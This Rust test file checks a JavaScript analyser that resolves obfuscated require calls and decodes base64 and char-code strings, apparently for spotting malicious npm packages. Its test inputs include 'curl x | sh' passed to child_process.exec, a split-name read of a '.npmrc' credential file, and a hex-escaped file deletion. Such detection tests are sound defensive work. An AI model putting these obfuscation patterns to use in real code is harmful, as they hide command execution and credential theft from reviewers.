use super::{Language, ScriptFacts, fold::Folder};

fn read(text: &str) -> ScriptFacts {
    let mut facts = ScriptFacts {
        language: Language::JavaScript,
        ..ScriptFacts::default()
    };
    Folder::new(&mut facts).run(text);
    facts
}

fn has(facts: &ScriptFacts, path: &str) -> bool {
    facts.names.iter().any(|name| name.path == path)
}

#[test]
fn what_is_required_is_followed() {
    let facts = read("const cp = require('child_' + 'process'); cp.exec('curl x | sh', () => {});");
    assert!(has(&facts, "child_process.exec"), "{facts:?}");
    assert_eq!(facts.texts[0].to, "child_process.exec");
    let facts = read("const { execSync, spawn } = require('node:child_process'); execSync(\"a\" + 'b');");
    assert!(has(&facts, "child_process.execSync"), "{facts:?}");
    assert_eq!(facts.texts[0].text, "ab");
    let facts =
        read("import { exec as run } from 'child_process';\nrequire('fs')['read' + 'FileSync']('x/.npmrc')");
    assert!(has(&facts, "fs.readFileSync"), "{facts:?}");
}

#[test]
fn texts_are_decoded() {
    let facts = read("eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())");
    assert_eq!(facts.texts[0].text, "console.log(1)");
    assert_eq!(facts.texts[0].to, "eval");
    let facts = read("var a = /\"/.test(x); require('\\x66\\x73').unlinkSync('b')");
    assert!(has(&facts, "fs.unlinkSync"), "{facts:?}");
    let facts =
        read("eval(String.fromCharCode(...[99,111,110,115,111,108,101,46,108,111,103,40,49,49,49,41]))");
    assert!(
        facts
            .texts
            .iter()
            .any(|text| text.text.starts_with("console.log")),
        "{facts:?}"
    );
}
